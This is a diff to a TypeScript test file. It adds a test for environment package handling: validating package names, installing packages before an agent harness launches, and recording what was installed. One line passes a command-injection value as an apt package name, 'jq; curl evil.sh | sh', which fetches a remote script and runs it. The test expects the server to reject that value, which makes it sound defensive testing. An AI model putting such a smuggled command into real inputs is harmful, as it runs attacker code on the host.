@@ -49,6 +49,39 @@ describe("environment workspace fields", () => {
     expect(JSON.stringify(start.args)).toContain("--permission-mode 'plan'");
   });
 
+  it("packages: checked on the box before the harness starts; the launch entry lists the ones it installed; bad names are a 400", async () => {
+    const token = await houseToken("house-ws-packages");
+    expect((await createEnv(token, { packages: { apt: ["jq; curl evil.sh | sh"] } })).status).toBe(400);
+    expect((await createEnv(token, { packages: { brew: ["jq"] } })).status).toBe(400);
+    const created = await createEnv(token, { packages: { apt: ["jq"], npm: ["typescript@5.6.3"] } });
+    expect(created.status).toBe(201);
+    expect(created.body.packages).toEqual({ apt: ["jq"], npm: ["typescript@5.6.3"] });
+    const provider = sharedTestProvider();
+    const before = provider.execHandler;
+    // The box has jq already and lacks typescript: only the npm step installs something.
+    provider.execHandler = (_b, command) => ({ exitCode: 0, output: command.includes("npm install -g") ? "added 1 package\nnpm:typescript@5.6.3\n" : "" });
+    try {
+      const parent = (await (await call("/api/threads", { method: "POST", token, json: { environmentId: created.body.id } })).json()) as { id: string };
+      const d = await call(`/api/threads/${parent.id}/delegate`, { method: "POST", token, json: { task: "build" } });
+      const { childThreadId, runId } = (await d.json()) as { childThreadId: string; runId: string };
+      await runInDurableObject(threadStub(childThreadId), (a: ThreadActor) => a.setTestEnv({ THREADBOX_STREAM_URL: "http://stream.test/api/stream" }));
+      const launched = await vi.waitFor(async () => {
+        const l = (await readAll(token, childThreadId)).entries.find((e) => e.payload.type === "signal.run.launched");
+        expect(l).toBeTruthy();
+        return l!;
+      }, { timeout: 15_000, interval: 100 });
+      expect(launched.payload.packagesInstalled).toEqual(["npm:typescript@5.6.3"]);
+      const [box] = await provider.list({ [LABEL_RUN]: runId });
+      const calls = provider.calls.filter((c) => c.ref === box.ref);
+      const installAt = calls.findIndex((c) => c.op === "exec" && JSON.stringify(c.args).includes("dpkg -s jq"));
+      const startAt = calls.findIndex((c) => c.op === "startDetached");
+      expect(installAt).toBeGreaterThanOrEqual(0);
+      expect(installAt).toBeLessThan(startAt);
+    } finally {
+      provider.execHandler = before;
+    }
+  });
+
   it("a delegate's permission mode and tools win over the environment's", async () => {
     const token = await houseToken("house-ws-override");
     const created = await createEnv(token, { permissionMode: "plan", allowedTools: ["read"] });
